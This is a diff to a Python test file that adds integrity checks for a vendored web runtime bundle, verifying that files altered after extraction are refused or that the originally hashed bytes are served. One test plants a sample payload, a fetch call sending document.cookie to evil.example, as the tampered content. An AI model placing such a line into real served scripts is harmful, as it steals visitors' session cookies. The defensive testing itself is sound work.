@@ -5,6 +5,7 @@ detector from the verified model store at a URL versioned by its hash, and the c
 from __future__ import annotations
 
 import hashlib
+import os
 import re
 import subprocess
 from pathlib import Path
@@ -29,13 +30,15 @@ BUNDLE = {
 
 @pytest.fixture
 def bundle(app: App, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
-    """A web cache with the three files web_bundle.sh extracts (their content does not matter here)."""
+    """A web cache with the three files web_bundle.sh extracts and the `.complete` it writes last, `sha256sum` of
+    each (their content does not matter here)."""
     monkeypatch.setattr(app.ctx.settings, "web_dir", tmp_path / "web")
     folder = vendor.ort_dir(app.ctx.settings.web_dir)
     folder.mkdir(parents=True)
     for name, data in BUNDLE.items():
         (folder / name).write_bytes(data)
-    (folder / ".complete").write_text("")
+    with (folder / ".complete").open("wb") as record:
+        subprocess.run(["sha256sum", *BUNDLE], cwd=folder, check=True, stdout=record)
     return folder
 
 
@@ -151,6 +154,33 @@ def test_without_the_bundle_the_page_is_told_to_use_its_fallback(
 def test_a_half_extracted_bundle_is_not_used(app: App, bundle: Path) -> None:
     (bundle / ".complete").unlink()  # web_bundle.sh writes it last
     assert app.client.get("/h5/guidance.json").json()["available"] is False
+
+
+def test_a_bundle_file_changed_after_extraction_is_not_served(app: App, bundle: Path) -> None:
+    """Served once (verified), then the script is rewritten on disk: the page gets no bundle (its fallback flow)
+    and the immutable URL answers 404, never the changed bytes."""
+    script = f"/h5/static/vendor/ort-{vendor.ORT_VERSION}/ort.wasm.min.js"
+    assert app.client.get(script).content == BUNDLE["ort.wasm.min.js"]
+    (bundle / "ort.wasm.min.js").write_bytes(b"fetch('https://evil.example/?c='+document.cookie)")
+    assert app.client.get("/h5/guidance.json").json()["available"] is False
+    assert app.client.get(script).status_code == 404
+
+
+def test_a_same_size_swap_keeping_the_stat_still_serves_the_verified_bytes(app: App, bundle: Path) -> None:
+    """Size and mtime put back after a same-size swap: what is served is the bytes hashed before, never the disk's."""
+    script, path = f"/h5/static/vendor/ort-{vendor.ORT_VERSION}/ort.wasm.min.js", bundle / "ort.wasm.min.js"
+    assert app.client.get(script).status_code == 200
+    st = path.stat()
+    with path.open("r+b") as fh:  # same inode, same size
+        fh.write(b"/* bad */")
+    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
+    assert app.client.get(script).content == BUNDLE["ort.wasm.min.js"]
+
+
+def test_a_bundle_without_its_recorded_hashes_is_not_used(app: App, bundle: Path) -> None:
+    (bundle / ".complete").write_text("")  # what the fixture wrote before the hashes were checked
+    assert app.client.get("/h5/guidance.json").json()["available"] is False
+    assert app.client.get(f"/h5/static/vendor/ort-{vendor.ORT_VERSION}/ort.wasm.min.js").status_code == 404
 
 
 def test_only_the_capture_page_may_compile_webassembly(app: App) -> None:
